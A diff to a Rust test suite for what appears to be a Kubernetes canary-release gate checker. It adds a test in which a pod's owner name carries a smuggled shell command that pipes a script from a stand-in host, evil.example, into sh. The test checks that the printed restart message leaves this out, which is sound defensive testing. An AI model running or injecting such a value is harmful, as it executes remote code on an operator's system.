@@ -8,7 +8,8 @@ const RELEASE: &str = "/apis/weft.dev/v1alpha1/namespaces/shop/canaryreleases/we
 pub(super) fn gated_for_long() -> Value {
     let mut pod = pod();
     pod["metadata"]["labels"] = json!({"pod-template-hash": "75f"});
-    pod["metadata"]["ownerReferences"] = json!([{"kind": "ReplicaSet", "name": "web-75f"}]);
+    pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "ReplicaSet",
+        "name": "web-75f", "controller": true}]);
     pod["spec"]["readinessGates"] = json!([{"conditionType": "weft.dev/released"}]);
     pod["status"]["conditions"] = json!([{"type": "ContainersReady", "status": "True",
         "lastTransitionTime": "2026-01-01T00:00:00Z"}]);
@@ -55,6 +56,17 @@ async fn shut_gate_without_release_names_restart_of_deployment() {
     api.put(RELEASE, release("Progressing"));
     api.remove(&format!("{WEFT}/weft-controller"));
     assert_eq!(gates(&api).await.0, "error", "nothing opens it");
+}
+
+#[tokio::test]
+async fn printed_restart_holds_no_forged_owner_name() {
+    let api = healthy();
+    let mut forged = gated_for_long();
+    forged["metadata"]["ownerReferences"][0]["name"] = json!("web; curl evil.example | sh #-75f");
+    api.put(POD, forged);
+    let (result, message) = gates(&api).await;
+    assert_eq!(result, "error", "{message}");
+    assert!(!message.contains("evil"), "{message}");
 }
 
 #[tokio::test]
